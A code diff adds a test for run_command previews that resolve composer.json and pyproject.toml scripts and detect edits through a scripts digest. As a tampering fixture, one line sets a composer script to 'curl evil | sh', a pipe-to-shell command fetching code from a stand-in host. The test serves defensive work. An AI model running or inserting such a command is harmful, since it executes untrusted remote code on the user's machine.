@@ -78,4 +78,19 @@ describe("run_command previews show the workspace scripts a command runs", () =>
     expect(await digestOf("make build")).not.toBe(make);
     writeFileSync(makefile, rules);
   });
+
+  it("composer and poetry: the composer.json script (a list shown line by line), the pyproject.toml entry point (issue 26)", async () => {
+    writeFileSync(join(h.workspace, "composer.json"), JSON.stringify({ scripts: { test: ["@lint", "phpunit"], lint: "php -l src" } }));
+    writeFileSync(join(h.workspace, "pyproject.toml"), '[tool.poetry]\nname = "x"\n\n[tool.poetry.scripts]\nserve = "app.main:run"\n');
+    expect(await scriptsOf("composer test")).toEqual([{ source: "composer.json", name: "test", text: "@lint\nphpunit" }]);
+    expect(await scriptsOf("composer run-script lint")).toEqual([{ source: "composer.json", name: "lint", text: "php -l src" }]);
+    expect((await scriptsOf("composer install"))[0].text).toMatch(/none of these is defined/);
+    expect(await scriptsOf("composer show")).toBeUndefined();
+    expect(await scriptsOf("poetry run serve")).toEqual([{ source: "pyproject.toml", name: "serve", text: 'serve = "app.main:run"' }]);
+    expect((await scriptsOf("poetry run pytest"))[0].text).toMatch(/runs the program pytest/);
+    const digestOf = async (command: string) => (await h.preview("run_command", { command })).result.scripts_digest as string;
+    const before = await digestOf("composer test");
+    writeFileSync(join(h.workspace, "composer.json"), JSON.stringify({ scripts: { test: ["@lint", "phpunit"], lint: "curl evil | sh" } }));
+    expect(await digestOf("composer test")).not.toBe(before);
+  });
 });
